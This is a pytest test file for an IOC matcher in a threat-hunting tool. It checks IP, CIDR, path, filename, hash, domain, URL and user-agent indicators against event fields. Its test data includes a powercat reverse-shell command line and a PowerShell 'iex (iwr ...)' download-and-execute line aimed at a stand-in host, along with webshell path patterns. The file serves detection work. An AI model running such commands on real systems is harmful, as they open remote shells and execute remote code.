"""The IOC matcher: every indicator type against file paths, hashes and event fields; prefilter literals."""

from __future__ import annotations

from exhunt.detectors.ioc.indicator import IocType, make
from exhunt.detectors.ioc.matcher import Matcher


def matcher(*specs: tuple[IocType, str]) -> Matcher:
    return Matcher([make(kind, value, "test feed") for kind, value in specs])


def values(hits: list) -> list[str]:  # type: ignore[type-arg]
    return sorted({h.indicator.value for h in hits})


def test_ips_and_cidrs_in_fields_and_text() -> None:
    m = matcher((IocType.IP, "203.0.113.9"), (IocType.CIDR, "198.51.100.0/24"), (IocType.IP, "2001:db8::1"))
    assert values(m.match_fields({"c-ip": "203.0.113.9"})) == ["203.0.113.9"]
    assert values(m.match_fields({"ClientIpAddress": "198.51.100.77:51234"})) == ["198.51.100.0/24"]
    assert values(m.match_fields({"X-Forwarded-For": "10.0.0.1, 203.0.113.9"})) == ["203.0.113.9"]
    assert values(m.match_fields({"CommandLine": "powercat -c 198.51.100.4 -p 443 -e cmd"})) == ["198.51.100.0/24"]
    assert values(m.match_fields({"c-ip": "2001:0db8:0000:0000:0000:0000:0000:0001"})) == ["2001:db8::1"]
    assert m.match_fields({"c-ip": "203.0.113.90", "s-ip": "198.51.101.1", "time": "06:50:01.123"}) == []


def test_paths_names_and_regexes() -> None:
    m = matcher((IocType.PATH, "C:\\inetpub\\wwwroot\\aspnet_client\\*.aspx"), (IocType.FILENAME, "supp0rt.aspx"),
                (IocType.FILENAME, "error*.aspx"), (IocType.FILENAME_REGEX, r"^[a-z0-9]{8}\.aspx$"))
    assert values(list(m.match_path("C/inetpub/wwwroot/aspnet_client/system_web/zz.aspx"))) == [
        "*/inetpub/wwwroot/aspnet_client/*.aspx"]
    assert values(list(m.match_path("inetpub/wwwroot/aspnet_client/zz.aspx"))) == [
        "*/inetpub/wwwroot/aspnet_client/*.aspx"]
    assert list(m.match_path("C/inetpub/wwwroot/aspnet_client/system_web/4_0_30319/WebUIValidation.js")) == []
    assert values(list(m.match_path("C/x/Supp0rt.ASPX"))) == ["supp0rt.aspx"]
    assert values(list(m.match_path("C/x/errorEE.aspx"))) == ["error*.aspx"]
    assert values(list(m.match_path("C/x/a1b2c3d4.aspx"))) == [r"^[a-z0-9]{8}\.aspx$"]
    event = {"TargetFilename": "C:\\inetpub\\wwwroot\\aspnet_client\\discovery.aspx"}
    assert values(m.match_fields(event)) == ["*/inetpub/wwwroot/aspnet_client/*.aspx"]
    assert values(m.match_fields({"cs-uri-stem": "/owa/auth/supp0rt.aspx"})) == ["supp0rt.aspx"]


def test_hashes_domains_urls_agents() -> None:
    sha = "2b6f1ebb2208e93ade4a6424555d6a8341fd6d9f60c25e44afe11008f5c1aad1"
    m = matcher((IocType.SHA256, sha), (IocType.DOMAIN, "evil.example.net"), (IocType.URL, "http://x.example.org/a.ps1"),
                (IocType.USER_AGENT, "python-requests/2.25.1"))
    assert values(list(m.match_hashes({"sha256": sha.upper()}))) == [sha]
    assert values(m.match_fields({"Hashes": f"MD5=00,SHA256={sha.upper()},IMPHASH=11"})) == [sha]
    assert values(m.match_fields({"QueryName": "cdn.evil.example.net"})) == ["evil.example.net"]
    assert m.match_fields({"QueryName": "notevil.example.net.com"}) == []
    assert values(m.match_fields({"CommandLine": "iex (iwr HTTP://x.example.org/a.ps1)"})) == [
        "http://x.example.org/a.ps1"]
    assert values(m.match_fields({"cs(User-Agent)": "python-requests/2.25.1"})) == ["python-requests/2.25.1"]
    assert m.match_fields({"cs(User-Agent)": "python-requests/2.31.0"}) == []
    assert m.match_fields({"Message": "python-requests/2.25.1"}) == []  # user agents only in user-agent fields


def test_literals_prefilter() -> None:
    m = matcher((IocType.IP, "203.0.113.9"), (IocType.CIDR, "198.51.100.0/24"),
                (IocType.USER_AGENT, "Mozilla/5.0+(compatible;+Baiduspider/2.0;++http://www.baidu.com/search/spider.html)"),
                (IocType.PATH, "C:\\inetpub\\wwwroot\\aspnet_client\\*.aspx"))
    lits = m.literals()
    assert lits is not None
    assert {"203.0.113.9", "198.51.100.", "aspnet_client", "http://www.baidu.com/search/spider.html)"} <= lits
    assert matcher((IocType.CIDR, "10.0.0.0/7")).literals() is None
    assert matcher((IocType.PATH_REGEX, "x")).literals() is None
